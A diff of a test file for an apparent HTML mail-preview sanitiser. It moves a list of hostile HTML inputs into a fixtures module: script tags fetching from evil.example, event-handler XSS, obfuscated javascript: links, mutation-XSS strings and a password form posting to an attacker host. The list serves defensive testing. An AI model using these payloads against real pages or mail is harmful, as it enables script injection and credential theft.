@@ -4,6 +4,7 @@ import { test } from 'node:test';
 import { parseDocument } from 'htmlparser2';
 
 import { MemoryMessage } from '../../src/intake/message.js';
+import { HOSTILE } from '../fixtures/hostile-html.js';
 import { escapeHtml } from '../../src/web/html.js';
 import {
   PREVIEW_CSP,
@@ -149,43 +150,6 @@ test('HTML-only mail: a text rendering (links as text <address>, no script or st
   assert.deepEqual(p.remoteImages, ['https://evil.example/l.png']);
 });
 
-const HOSTILE = [
-  '<script>document.title="pwned";fetch("https://evil.example/s")</script>',
-  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
-  '<img src=x onerror="alert(1)">',
-  '<body onload=alert(2)><div onclick="alert(3)" onmouseover=alert(4)>hover</div>',
-  '<a href="javascript:alert(5)">js link</a>',
-  '<a href="JaVaScRiPt&#58;alert(6)">entity js link</a>',
-  '<a href="  javascript:alert(7)">space js link</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==">data link</a>',
-  '<a href="https://evil.example/phish" ping="https://evil.example/ping">https://bank.example/</a>',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
-  '<base href="https://evil.example/">',
-  '<link rel="prefetch" href="https://evil.example/prefetch"><link rel=stylesheet href=https://evil.example/s.css><link rel=dns-prefetch href=//evil.example>',
-  '<form action="https://evil.example/post" method=post><input name=password type=password><input type=image src="https://evil.example/in.png"><button formaction="https://evil.example/b">Log in</button><select><option>o</option></select><textarea>t</textarea></form>',
-  '<svg onload=alert(9)><image href="https://evil.example/svg.png"/><use xlink:href="https://evil.example/u.svg#a"/></svg>',
-  '<p style="background:url(https://evil.example/style.png)">styled</p><div style="background-image: u\\rl(https://evil.example/esc)">esc</div>',
-  '<style>@import url("https://evil.example/import.css"); body { background: url(https://evil.example/bg.png) } @font-face { src: url(https://evil.example/f.woff) }</style>',
-  '<style>@import \'https://evil.example/import2.css\';</style>',
-  '<img srcset="https://evil.example/1x.png 1x, https://evil.example/2x.png 2x" src="https://evil.example/t.gif">',
-  '<picture><source srcset="https://evil.example/pic.webp"><img src="https://evil.example/pic.png"></picture>',
-  '<table background="https://evil.example/tbg.png"><tr><td background="https://evil.example/tdbg.png">cell</td></tr></table>',
-  '<body background="https://evil.example/bodybg.png">',
-  '<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio>',
-  '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
-  '<noscript><p title="</noscript><img src=x onerror=alert(10)>"></noscript>',
-  '<template><img src=x onerror=alert(11)></template>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(12)></style></mglyph></table></mtext></math>',
-  '<math><mi xlink:href="javascript:alert(13)">m</mi></math>',
-  '<svg></p><style><a id="</style><img src=1 onerror=alert(14)>">',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(15)>',
-  '<xmp><img src=x onerror=alert(16)></xmp>',
-  '<div id="x"><img src="//evil.example/protocol-relative.png"></div>',
-  '<img src="https:evil.example/odd.png"><img src="http://evil.example/http.png"><img src="ftp://evil.example/f.png">',
-  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">',
-  '<a href="#" class="nqq-link" style="x">fake</a><span class="nqq-url evil">x</span>',
-  '<div><b>unclosed <i>tags <a href="https://evil.example/unclosed">open link <img src="https://evil.example/u.png"',
-];
 
 test('hostile HTML: nothing that runs, loads, submits or styles survives; every address only as text', async () => {
   const html = HOSTILE.join('\n');
